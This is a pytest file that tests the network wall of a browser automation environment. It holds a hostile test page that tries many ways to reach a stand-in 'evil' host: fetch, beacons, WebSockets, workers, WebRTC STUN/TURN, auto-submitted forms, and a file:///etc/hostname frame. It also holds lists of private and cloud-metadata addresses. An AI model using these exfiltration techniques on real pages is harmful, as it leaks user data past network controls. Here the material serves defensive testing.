"""Hosts outside the wall get no packet, whichever way a page tries; checked at sockets that listen."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from saccade.actions.errors import UsageError
from saccade.actions.schema import Navigate, Wait
from saccade.env.browser.chromium import Chromium
from saccade.env.browser.environment import BrowserEnvironment
from saccade.env.browser.network.rules import NetworkRules, resolve_host
from saccade.env.browser.network.wall import WALLED
from saccade.env.browser.options import BrowserOptions
from saccade.env.guard.guard import Guard
from saccade.perception.page_settle import PageLimits

SEEN = [
    "script",
    "image",
    "literal",
    "fetch",
    "post",
    "frame",
    "redirect-frame",
    "meta-frame",
    "data-frame",
    "srcdoc-frame",
    "form",
    "popup",
    "worker",
    "import",
    "worker-fetch",
    "beacon",
    "websocket",
    "events",
    "prefetch",
    "font",
    "video",
    "object",
    "download",
    "style",
    "redirect-image",
    "worker-socket",
    "service-fetch",
    "module",
]
"""Ways on which a page gets through where there is no wall."""
PAGE = """<link rel=stylesheet href=EVIL/style><link rel=prefetch href=EVIL/prefetch>
<link rel=preconnect href=EVIL/><link rel=dns-prefetch href=//dns.evil.localhost><link rel=icon href=EVIL/icon>
<style>@font-face { font-family: x; src: url(EVIL/font) } p { font-family: x }</style><p>Page</p>
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"], "eagerness": "immediate"}],
  "prerender": [{"source": "list", "urls": ["EVIL/prerender"], "eagerness": "immediate"}]}</script>
<script src=EVIL/script></script><script type=module>import 'EVIL/module';</script>
<img src=EVIL/image>
<img src=http://STUN/literal>
<img src=/go?redirect-image><iframe src=EVIL/frame></iframe><iframe src=/go?redirect-frame></iframe>
<iframe srcdoc="<img src=EVIL/srcdoc-frame>"></iframe><iframe src="data:text/html,<img src=EVIL/data-frame>"></iframe>
<iframe srcdoc='<meta http-equiv=refresh content="0;url=EVIL/meta-frame">'></iframe>
<iframe src="file:///etc/hostname"></iframe><video autoplay src=EVIL/video></video>
<object data=EVIL/object></object>
<iframe srcdoc='<form id=f method=post action=EVIL/form><input name=a></form><script>f.submit()</script>'></iframe>
<a id=ping href="#there" ping=EVIL/ping></a><a id=download href=EVIL/download download></a>
<script>
const quiet = (work) => { try { const made = work(); made && made.catch && made.catch(() => 0); } catch (error) {} };
const blob = (text) => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
quiet(() => fetch('EVIL/fetch'));
quiet(() => fetch('EVIL/post', {method: 'POST', mode: 'no-cors', body: 'x'.repeat(200000)}));
quiet(() => navigator.sendBeacon('EVIL/beacon', 'x'));
quiet(() => new WebSocket('WSEVIL/websocket'));
quiet(() => new EventSource('EVIL/events'));
quiet(() => new Worker(blob(`fetch('EVIL/worker-fetch', {mode: 'no-cors'}).catch(() => 0);
  new WebSocket('WSEVIL/worker-socket'); importScripts('EVIL/import')`)));
quiet(() => new SharedWorker(blob(`fetch('EVIL/worker', {mode: 'no-cors'}).catch(() => 0)`)));
quiet(() => navigator.serviceWorker.register('/service.js'));
quiet(() => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}, {urls: 'turn:STUN?transport=tcp',
  username: 'a', credential: 'b'}]}); peer.createDataChannel('x');
  return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); });
quiet(() => new WebTransport('https://STUN/transport').ready);
onload = () => { ping.click(); download.click(); open('EVIL/popup'); };
</script>"""


class Place:
    """A server that listens for TCP and UDP at one port, and remembers who came."""

    def __init__(self, pages: dict[str, tuple[int, dict[str, str], bytes]] | None = None, host: str = "127.0.0.1"):
        self.asked: list[str] = []
        self.hosts: set[str] = set()
        self.connections = 0
        place, pages = self, pages or {}

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                place.asked.append(self.path.strip("/"))
                place.hosts.add(self.headers["Host"])
                status, headers, body = pages.get(self.path.partition("?")[0], (404, {}, b""))
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value.replace("QUERY", self.path.partition("?")[2]))
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        class Server(ThreadingHTTPServer):
            daemon_threads = True

            def get_request(self) -> tuple[socket.socket, tuple[str, int]]:
                place.connections += 1
                found: tuple[socket.socket, tuple[str, int]] = super().get_request()
                return found

        self._server = Server((host, 0), Handler)
        self.port: int = self._server.server_address[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((host, self.port))
        self.udp.setblocking(False)
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.02,))
        self._thread.start()

    def datagrams(self) -> int:
        count = 0
        try:
            while self.udp.recv(65536):
                count += 1
        except BlockingIOError:
            return count
        return count

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()
        self.udp.close()


@pytest.fixture
def evil() -> Iterator[Place]:
    place = Place()
    yield place
    place.close()


@pytest.fixture
def good(evil: Place) -> Iterator[Place]:
    there = f"http://evil.localhost:{evil.port}"
    page = PAGE.replace("WSEVIL", there.replace("http", "ws")).replace("EVIL", there)
    page = page.replace("STUN", f"127.0.0.1:{evil.port}")
    service = f"fetch('{there}/service-fetch', {{mode: 'no-cors'}}).catch(() => 0)".encode()
    place = Place(
        {
            "/": (200, {"Content-Type": "text/html; charset=utf-8"}, page.encode()),
            "/plain": (200, {"Content-Type": "text/html"}, b"Plain"),
            "/go": (302, {"Location": f"{there}/QUERY"}, b""),
            "/service.js": (200, {"Content-Type": "text/javascript"}, service),
        }
    )
    yield place
    place.close()


@pytest.fixture(scope="module")
def walled() -> Iterator[Chromium]:
    with Chromium(flags=WALLED) as browser:
        yield browser


def rules(place: Place, resolve: object = resolve_host) -> NetworkRules:
    return NetworkRules((f"good.localhost:{place.port}",), resolve=resolve)  # type: ignore[arg-type]


def visit(
    address: str,
    chromium: Chromium,
    network: NetworkRules | None,
    tmp_path: Path,
    seconds: float = 2.0,
    done: Callable[[], bool] = lambda: False,
) -> list[str]:
    """Open a page, give it time, and return all notes."""
    options = BrowserOptions(network=network, downloads=tmp_path / "downloads", limits=PageLimits(navigation=4.0))
    with BrowserEnvironment(address, options, guard=Guard.of("open"), chromium=chromium) as browser:
        notes = [*browser.reset().notes]
        end = time.monotonic() + seconds
        while time.monotonic() < end and not done():
            notes += browser.step(Wait(seconds=0.3)).notes
    return notes


def test_without_a_wall_each_way_leads_out(chromium: Chromium, good: Place, evil: Place, tmp_path: Path) -> None:
    address = f"http://good.localhost:{good.port}/"
    for _ in range(3):  # a busy machine may lose one that is slow
        if not {*SEEN} <= {*evil.asked}:
            visit(address, chromium, None, tmp_path, 6.0, lambda: {*SEEN} <= {*evil.asked})
    assert sorted({*SEEN} - {*evil.asked}) == []
    assert evil.datagrams() > 0


def test_hosts_outside_get_no_packet_on_any_way(walled: Chromium, good: Place, evil: Place, tmp_path: Path) -> None:
    looked_up: list[str] = []

    def resolve(host: str) -> tuple[str, ...]:
        looked_up.append(host)
        return ("127.0.0.1",)

    notes = visit(f"http://good.localhost:{good.port}/", walled, rules(good, resolve), tmp_path)
    assert (evil.connections, evil.datagrams(), evil.asked) == (0, 0, [])
    assert {*looked_up} == {"good.localhost"}
    assert {"", "service.js", "go?redirect-frame"} <= {*good.asked}
    assert any("outside the allowed domains: " in each and "evil.localhost" in each for each in notes)


@pytest.mark.parametrize("path", ["go?there", "leave"])
def test_a_page_that_leads_out_is_told(walled: Chromium, good: Place, evil: Place, tmp_path: Path, path: str) -> None:
    options = BrowserOptions(network=rules(good))
    address = f"http://good.localhost:{good.port}"
    guard = Guard.of("open")
    kept: list[tuple[str, dict[str, object]]] = []
    with BrowserEnvironment(f"{address}/plain", options, guard=guard, chromium=walled) as browser:
        browser.reset()
        target = f"http://evil.localhost:{evil.port}/" if path == "leave" else f"{address}/{path}"
        result = browser.step(Navigate(url=target))
        guard.log = lambda kind, known: kept.append((kind, dict(known)))
        browser.step(Wait(seconds=0))
        if path == "leave":
            assert result.error is not None
            assert "outside the allowed domains" in result.error
        else:
            assert any("evil.localhost (1 connection)" in note for note in result.notes)
            assert ("blocked", "evil.localhost") in [(kind, known.get("host")) for kind, known in kept]
    assert (evil.connections, evil.datagrams()) == (0, 0)


def test_the_browser_looks_no_name_up_itself(good: Place, tmp_path: Path) -> None:
    names = (
        "<link rel=dns-prefetch href=//dns.invalid><link rel=preconnect href=http://pre.invalid><img src=//i.invalid>"
    )
    page = Place({"/": (200, {"Content-Type": "text/html"}, names.encode())})
    asked = {}
    for network, flags in ((None, ()), (rules(page), WALLED)):
        log = tmp_path / f"net{len(asked)}.json"
        with Chromium(flags=(*flags, f"--log-net-log={log}")) as browser:
            visit(f"http://good.localhost:{page.port}/", browser, network, tmp_path, 0.5)
        text = log.read_text(errors="replace")
        events = json.loads(text if text.rstrip().endswith("}") else text.rstrip().rstrip(",") + "]}")
        kinds = events["constants"]["logEventTypes"]
        jobs = {kinds[name] for name in kinds if name.startswith("HOST_RESOLVER") and name.endswith(("_JOB", "_TASK"))}
        asked[network is not None] = [each for each in events["events"] if each["type"] in jobs]
    page.close()
    assert "invalid" in json.dumps(asked[False])
    assert asked[True] == []


def test_a_name_that_changes_its_address_stays_where_it_was_checked(
    walled: Chromium, good: Place, evil: Place, tmp_path: Path
) -> None:
    answers = iter([("127.0.0.1",)] + [("127.0.0.1", "10.0.0.1")] * 100)
    network = NetworkRules(("shop.example",), allow_private=True, resolve=lambda host: next(answers))
    visit(f"http://shop.example:{good.port}/plain", walled, network, tmp_path, 0.1)
    assert good.connections > 0
    assert {each.partition(":")[0] for each in good.hosts} == {"shop.example"}
    came = good.connections
    inside = NetworkRules(("shop.example",), resolve=lambda host: ("127.0.0.1",))
    notes = visit(f"http://shop.example:{good.port}/plain", walled, inside, tmp_path, 0.1)
    assert good.connections == came
    assert any("its address 127.0.0.1 is private" in each for each in notes)


def test_strict_keeps_a_browser_to_the_first_pages_site(good: Place, evil: Place, walled: Chromium) -> None:
    address = f"http://good.localhost:{good.port}/plain"
    with BrowserEnvironment(address, guard=Guard.of("strict"), chromium=walled) as browser:
        assert browser._options.network == NetworkRules((f"good.localhost:{good.port}",))
        browser.reset()
    with pytest.raises(UsageError, match="WALLED"), Chromium() as plain:
        BrowserEnvironment(address, guard=Guard.of("strict"), chromium=plain)


PUBLIC = ("93.184.216.34", "2606:2800:220:1::1", "::ffff:93.184.216.34")
PRIVATE = [
    "127.0.0.1",
    "127.9.9.9",
    "10.1.2.3",
    "172.16.0.1",
    "192.168.1.1",
    "100.64.0.1",
    "::1",
    "fc00::1",
    "fd12::1",
    "::ffff:127.0.0.1",
    "::ffff:10.0.0.1",
    "2002:7f00:1::",
    "64:ff9b::10.0.0.1",
    "::127.0.0.1",
    "fec0::1",
    "198.18.0.1",
]
NEVER = [
    "169.254.169.254",
    "::ffff:169.254.169.254",
    "64:ff9b::169.254.169.254",
    "2002:a9fe:a9fe::",
    "fe80::1",
    "fe80::1%eth0",
    "fd00:ec2::254",
    "100.100.100.200",
    "168.63.129.16",
    "0.0.0.0",
    "::",
    "224.0.0.1",
    "239.1.1.1",
    "ff02::1",
    "255.255.255.255",
    "240.0.0.1",
    "2001:0:a9fe:a9fe:0:0:5601:5601",
]


@pytest.mark.parametrize("address", [*PUBLIC, *PRIVATE, *NEVER])
def test_every_form_of_an_address_is_known(address: str) -> None:
    inside, within = NetworkRules(("*",)), NetworkRules(("*",), allow_private=True)
    assert (inside.refuses_address("a.example", 80, address) is None) == (address in PUBLIC)
    assert (within.refuses_address("a.example", 80, address) is None) == (address not in NEVER)


@pytest.mark.parametrize(
    ("pattern", "inside", "outside"),
    [
        ("example.org", "example.org www.example.org", "example.com badexample.org example.org.evil.net"),
        ("*.example.org", "a.example.org b.a.example.org", "example.org aexample.org"),
        ("localhost:8000", "localhost:8000", "localhost:8001 127.0.0.1:8000 localhost"),
        ("[::1]:80", "[::1]:80", "[::1]:81 [::2]:80"),
        ("bücher.example", "xn--bcher-kva.example", "bucher.example"),
        ("*", "a.b a.b:81 127.0.0.1", ""),
        ("EXAMPLE.org.", "example.org.", "org"),
    ],
)
def test_patterns_cover_hosts(pattern: str, inside: str, outside: str) -> None:
    network = NetworkRules((pattern,))
    assert [each for each in inside.split() if network.refuses_url(f"http://{each}/")] == []
    assert [each for each in outside.split() if not network.refuses_url(f"http://{each}/")] == []


@pytest.mark.parametrize(
    "pattern", ["", "http://a.example", "a.*.example", "a b", "a/b", "*.", "a@b", "[x]", "a:1234567"]
)
def test_what_is_no_pattern_is_refused(pattern: str) -> None:
    with pytest.raises(UsageError, match="no domain"):
        NetworkRules((pattern,))


def test_a_local_host_that_is_named_needs_no_further_leave() -> None:
    named = NetworkRules.beginning("http://169.254.169.254/", ("localhost:8000",))
    assert named.refuses_address("169.254.169.254", 80, "169.254.169.254") is None
    assert named.refuses_address("localhost", 8000, "::1") is None
    assert named.refuses_address("localhost", 8000, "169.254.169.254") is not None
    assert NetworkRules.beginning("https://shop.example.co.uk/a").allowed == ("example.co.uk",)
    assert NetworkRules.beginning("about:blank").allowed == ()
